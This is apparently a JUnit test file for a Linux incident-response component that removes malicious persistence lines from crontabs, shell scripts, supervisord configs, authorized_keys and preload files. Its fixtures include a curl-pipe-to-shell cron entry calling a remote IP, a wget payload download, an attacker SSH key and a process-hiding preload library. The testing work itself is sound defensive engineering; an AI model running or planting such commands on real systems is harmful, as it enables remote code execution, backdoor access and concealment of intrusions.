package dev.ferret.respond.linux;

import dev.ferret.respond.plan.ExpectedLine;
import dev.ferret.respond.plan.ExpectedLine.Match;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

class LineSurgeryTest {
    private static final String DDG = "curl -fsSL http://218.248.40.228:8443/i.sh | sh";

    private static byte[] b(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static String s(byte[] b) {
        return new String(b, StandardCharsets.UTF_8);
    }

    private static ExpectedLine cron(int line, String command) {
        return new ExpectedLine(line, command, Match.CRON_COMMAND);
    }

    @Test
    void removesACronLineAndKeepsEveryOtherByte() {
        String in = "# m h dom mon dow command\nSHELL=/bin/sh\n*/5 * * * * " + DDG + "\n30 2 * * 0 /usr/local/bin/backup.sh\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(cron(3, DDG)));
        assertEquals("# m h dom mon dow command\nSHELL=/bin/sh\n30 2 * * 0 /usr/local/bin/backup.sh\n", s(r.content()));
        assertEquals(List.of(3), r.removed());
        assertTrue(r.missing().isEmpty());
    }

    @Test
    void crlfLinesKeepTheirTerminatorsAndAMatchingCrlfLineGoesWhole() {
        String in = "17 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\r\n*/5 * * * * " + DDG + "\r\n"
                + "0 4 * * * find /var/log -name '*.gz' -delete\r\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(cron(2, DDG)));
        assertArrayEquals(b("17 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\r\n"
                + "0 4 * * * find /var/log -name '*.gz' -delete\r\n"), r.content());
    }

    @Test
    void lastLineWithoutNewlineStaysWithoutOne() {
        String in = "*/5 * * * * " + DDG + "\n0 4 * * * find /var/log -mtime +30 -delete";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(cron(1, DDG)));
        assertEquals("0 4 * * * find /var/log -mtime +30 -delete", s(r.content()));
    }

    @Test
    void removingTheLastLineWithoutNewlineLeavesThePreviousLineIntact() {
        String in = "0 4 * * * /usr/bin/true\r\n*/5 * * * * " + DDG;
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(cron(2, DDG)));
        assertEquals("0 4 * * * /usr/bin/true\r\n", s(r.content()));
    }

    @Test
    void aLineThatMovedIsFoundByItsTextAndALineNumberAloneNeverRemovesAnything() {
        String in = "# added later\n0 4 * * * /usr/bin/true\n*/5 * * * * " + DDG + "\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(cron(2, DDG)));
        assertEquals("# added later\n0 4 * * * /usr/bin/true\n", s(r.content()));
        assertEquals(List.of(3), r.removed());

        LineSurgery.Result none = LineSurgery.remove(b("0 4 * * * /usr/bin/true\n"), List.of(cron(1, DDG)));
        assertFalse(none.changed());
        assertEquals(1, none.missing().size());
        assertArrayEquals(b("0 4 * * * /usr/bin/true\n"), none.content());
    }

    @Test
    void commentsAndLongerCommandsThatEndTheSameDoNotMatch() {
        String in = "# */5 * * * * " + DDG + "\n*/5 * * * * x" + DDG + "\n";
        assertFalse(LineSurgery.remove(b(in), List.of(cron(1, DDG))).changed());
    }

    @Test
    void systemCrontabLinesWithAUserFieldMatchOnTheCommand() {
        String in = "SHELL=/bin/sh\n*/5 * * * * root " + DDG + "\n";
        assertEquals("SHELL=/bin/sh\n", s(LineSurgery.remove(b(in), List.of(cron(2, DDG))).content()));
    }

    @Test
    void severalLinesGoInOnePassAndEveryCopyOfAMovedLineGoes() {
        String in = "a\n*/5 * * * * " + DDG + "\nb\n* * * * * /tmp/.cache/guard.sh >/dev/null 2>&1\nc\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(cron(2, DDG),
                cron(4, "/tmp/.cache/guard.sh >/dev/null 2>&1")));
        assertEquals("a\nb\nc\n", s(r.content()));
        assertEquals(List.of(2, 4), r.removed());
    }

    @Test
    void exactMatchJoinsContinuationLinesAsTheScanDid() {
        String in = "#!/bin/sh\nwget -q http://x/y \\\n   -O /tmp/.y\nexport PATH=/usr/bin\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(new ExpectedLine(2, "wget -q http://x/y -O /tmp/.y",
                Match.EXACT)));
        assertEquals("#!/bin/sh\nexport PATH=/usr/bin\n", s(r.content()));
        assertEquals(List.of(2, 3), r.removed());
    }

    @Test
    void aSequenceRemovesTheCopyRunDeleteLinesAndKeepsWhatIsBetween() {
        String in = "export A=1\ncp /etc/.sh /tmp/.sh\necho hi\n/tmp/.sh\nrm -f /tmp/.sh\nalias ll='ls -l'\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(new ExpectedLine(2,
                "cp /etc/.sh /tmp/.sh ; /tmp/.sh ; rm -f /tmp/.sh", Match.SEQUENCE)));
        assertEquals("export A=1\necho hi\nalias ll='ls -l'\n", s(r.content()));
    }

    @Test
    void aSupervisordProgramSectionGoesWhole() {
        String in = "[supervisord]\nnodaemon=false\n\n[program:spts]\ncommand=/etc/spts -c /etc/spts.conf\n"
                + "autorestart=true\n\n[program:ok]\ncommand=/usr/bin/true\n";
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(new ExpectedLine(5, "/etc/spts -c /etc/spts.conf",
                Match.SECTION)));
        assertEquals("[supervisord]\nnodaemon=false\n\n[program:ok]\ncommand=/usr/bin/true\n", s(r.content()));
    }

    @Test
    void authorizedKeysAreMatchedOnTheirAbbreviatedForm() {
        String key = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQDx attacker@evil";
        String in = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk admin@corp\n" + key + "\n";
        String abbreviated = dev.ferret.collect.linux.persistence.AuthorizedKey.parse(key).orElseThrow().abbreviated();
        LineSurgery.Result r = LineSurgery.remove(b(in), List.of(new ExpectedLine(2, abbreviated,
                Match.AUTHORIZED_KEY)));
        assertEquals("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOk admin@corp\n", s(r.content()));
    }

    @Test
    void aPreloadLineNamingOnlyTheLibraryGoesWithItsTerminator() {
        LineSurgery.Result r = LineSurgery.removeWord(b("/usr/local/lib/libprocesshider.so\n"), 1,
                "/usr/local/lib/libprocesshider.so");
        assertEquals("", s(r.content()));
        LineSurgery.Result crlf = LineSurgery.removeWord(b("# keep\r\n/usr/local/lib/libprocesshider.so\r\n"), 2,
                "/usr/local/lib/libprocesshider.so");
        assertEquals("# keep\r\n", s(crlf.content()));
    }

    @Test
    void otherLibrariesOnThePreloadLineStay() {
        assertEquals("/usr/lib/libjemalloc.so.2\n", s(LineSurgery.removeWord(
                b("/usr/lib/libjemalloc.so.2 /usr/local/lib/libprocesshider.so\n"), 1,
                "/usr/local/lib/libprocesshider.so").content()));
        assertEquals("/usr/lib/libjemalloc.so.2\n", s(LineSurgery.removeWord(
                b("/usr/local/lib/libprocesshider.so:/usr/lib/libjemalloc.so.2\n"), 1,
                "/usr/local/lib/libprocesshider.so").content()));
        assertEquals("/lib/a.so # note\n", s(LineSurgery.removeWord(b("/lib/a.so /lib/x.so # note\n"), 1, "/lib/x.so")
                .content()));
        // a longer name that contains the library's is not it
        assertFalse(LineSurgery.removeWord(b("/lib/x.so.1\n"), 1, "/lib/x.so").changed());
        // a commented-out mention is not loaded and stays
        assertFalse(LineSurgery.removeWord(b("# /lib/x.so\n"), 1, "/lib/x.so").changed());
    }

    @Test
    void invalidUtf8ElsewhereInTheFileSurvivesByteForByte() {
        byte[] in = {'a', (byte) 0xff, (byte) 0xfe, '\n', '*', ' ', '*', ' ', '*', ' ', '*', ' ', '*', ' ', 'x', '\n',
            'z', (byte) 0xc3};
        LineSurgery.Result r = LineSurgery.remove(in, List.of(cron(2, "x")));
        assertArrayEquals(new byte[] {'a', (byte) 0xff, (byte) 0xfe, '\n', 'z', (byte) 0xc3}, r.content());
    }
}
